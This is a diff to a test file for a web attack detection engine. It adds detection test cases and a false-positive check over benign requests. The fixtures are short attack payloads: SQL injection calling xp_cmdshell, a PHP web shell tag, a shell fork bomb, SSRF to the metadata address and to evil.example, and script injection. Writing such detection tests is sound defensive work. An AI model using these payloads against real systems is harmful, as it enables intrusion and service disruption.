@@ -3,6 +3,8 @@ import { readEvents } from '../../../server/engine/threat/readers/read.ts';
 import { requiredLiterals } from '../../../server/engine/threat/sigma/required-literals.ts';
 import { decodeValue } from '../../../server/engine/threat/web/decode.ts';
 import { detectWeb, SIGNATURES } from '../../../server/engine/threat/web/detect.ts';
+import { createRandom } from '../../support/logs/random.ts';
+import { benignRequest } from '../../support/logs/requests.ts';
 
 const hits = (text: string) =>
   readEvents(text)
@@ -42,6 +44,16 @@ test.each<[payload: string, family: string]>([
   ['O:8:"stdClass":1:{s:1:"a";i:1;}', 'web-php-object'],
   ['<?php system($_GET[0]); ?>', 'web-php-tag'],
   ['constructor[prototype][x]', 'web-ssti-prototype'],
+  ['x; exec xp_cmdshell("dir")', 'web-sqli-stacked'],
+  ["1' IN (SELECT 1)", 'web-sqli'],
+  ['Stop-Process -Name av', 'web-rce-powershell'],
+  ['if %1==x del y', 'web-rce-batch'],
+  ['f(){ f|f& };f', 'web-rce-unix-chain'],
+  ['kubectl exec -it pod', 'web-rce-history'],
+  ['http://169。254。169。254/', 'web-ssrf'],
+  ['jar:http://evil.example/a.zip!/b', 'web-ssrf-internal'],
+  ['<esi:include src="http://evil.example/"/>', 'web-xxe-entity'],
+  [`x ${Buffer.from('<script>alert(1)</script>').toString('base64')} y`, 'web-xss-tag'],
 ])('%s', (payload, family) => {
   expect(get(payload).some((id) => id.startsWith(family))).toBe(true);
 });
@@ -99,6 +111,27 @@ test('every expression has a literal to wait for: none runs on every value', () 
     signature.patterns.filter((pattern) => requiredLiterals(pattern) === null),
   );
   expect(open).toEqual([]);
+});
+
+test.each<[name: string, request: string, id: string]>([
+  ['a host that is an address', 'GET / HTTP/1.1\r\nHost: 203.0.113.7\r\n\r\n', 'web-protocol-host'],
+  ['a body in a GET', 'GET / HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n\r\na=b', 'web-protocol-body'],
+  [
+    'broken percent encoding in a form',
+    'POST / HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=%1G',
+    'web-protocol-body-encoding',
+  ],
+  ['bytes that are no UTF-8', 'GET /?a=b%ffc HTTP/1.1', 'web-protocol-bytes'],
+  ['a name of 120 letters', `GET /?${'a'.repeat(120)}=1 HTTP/1.1`, 'web-protocol-size'],
+])('protocol: %s', (_, request, id) => {
+  expect(hits(request)).toContain(id);
+});
+
+test('ordinary requests of many applications say nothing', () => {
+  const random = createRandom(41);
+  const requests = Array.from({ length: 600 }, () => benignRequest(random));
+  const flagged = requests.filter((request) => hits(request).some((id) => id !== 'web-shell-command'));
+  expect(flagged).toEqual([]);
 });
 
 test.each([
